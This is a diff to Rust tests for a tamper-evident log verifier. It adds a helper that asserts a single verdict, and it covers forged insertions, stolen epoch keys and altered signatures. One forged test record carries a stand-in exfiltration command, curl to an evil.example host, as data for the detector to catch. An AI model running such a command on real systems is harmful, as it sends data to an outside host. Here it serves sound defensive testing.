@@ -9,6 +9,16 @@ use ed25519_dalek::SigningKey;
 use serde_json::json;
 use store_util::{Case, Forger, captured, forge, kind, no_keys, seq};
 
+/// Verifies `lines` (with the trust root): exit 1 and exactly one verdict,
+/// of `kind`. Returns its first seq and the whole report.
+fn only_verdict(name: &str, lines: &[store_util::Rec], kind: &str) -> (u64, serde_json::Value) {
+    let (code, vs, v) = Case::new(name, lines).verify(&[]);
+    assert_eq!(code, 1, "{v:#}");
+    assert_eq!(vs.len(), 1, "{v:#}");
+    assert_eq!(vs[0].0, kind, "{v:#}");
+    (vs[0].1, v)
+}
+
 /// The untouched copy verifies, with the trust root and the anchor.
 #[test]
 fn the_captured_log_is_intact() {
@@ -145,12 +155,9 @@ fn a_forged_record_with_recomputed_hashes_is_inserted() {
     fake.insert("argv".into(), json!(["curl", "http://evil.example/exfil"]));
     lines.insert(i, fake);
     forge(&mut lines, i, true, &no_keys());
-    let (code, vs, v) = Case::new("insert", &lines).verify(&[]);
-    assert_eq!(code, 1, "{v:#}");
-    assert_eq!(vs.len(), 1, "{v:#}");
-    assert_eq!(vs[0].0, "inserted", "{v:#}");
+    let (first, v) = only_verdict("insert", &lines, "inserted");
     // Named from the last checkpoint that still verifies, which is before it.
-    assert!(vs[0].1 <= i as u64, "{v:#}");
+    assert!(first <= i as u64, "{v:#}");
     assert!(
         v["verdicts"][0]["last_seq"].as_u64().unwrap() >= i as u64,
         "{v:#}"
@@ -236,10 +243,7 @@ fn a_stolen_current_key_cannot_rewrite_an_older_epoch() {
         chain_keys: None,
     };
     forge(&mut lines, i, false, &f);
-    let (code, vs, v) = Case::new("stolen", &lines).verify(&[]);
-    assert_eq!(code, 1, "{v:#}");
-    assert_eq!(vs.len(), 1, "{v:#}");
-    assert_eq!(vs[0].0, "wrong-epoch-key", "{v:#}");
+    let (first, v) = only_verdict("stolen", &lines, "wrong-epoch-key");
     // The first checkpoint after the rewrite is the first one reported.
     let first_cp = lines
         .iter()
@@ -248,7 +252,7 @@ fn a_stolen_current_key_cannot_rewrite_an_older_epoch() {
         .map(seq)
         .unwrap();
     assert!(
-        vs[0].1 <= i as u64 && v["verdicts"][0]["last_seq"].as_u64().unwrap() >= first_cp,
+        first <= i as u64 && v["verdicts"][0]["last_seq"].as_u64().unwrap() >= first_cp,
         "{v:#}"
     );
 }
@@ -272,10 +276,7 @@ fn an_altered_signature_is_bad_signature() {
     }
     lines[i].insert("note".into(), json!(String::from_utf8(b).unwrap()));
     forge(&mut lines, i, false, &no_keys());
-    let (code, vs, v) = Case::new("badsig", &lines).verify(&[]);
-    assert_eq!(code, 1, "{v:#}");
-    assert_eq!(vs.len(), 1, "{v:#}");
-    assert_eq!(vs[0].0, "bad-signature", "{v:#}");
+    let (first, v) = only_verdict("badsig", &lines, "bad-signature");
     assert_eq!(
         v["verdicts"][0]["last_seq"].as_u64(),
         Some(i as u64),
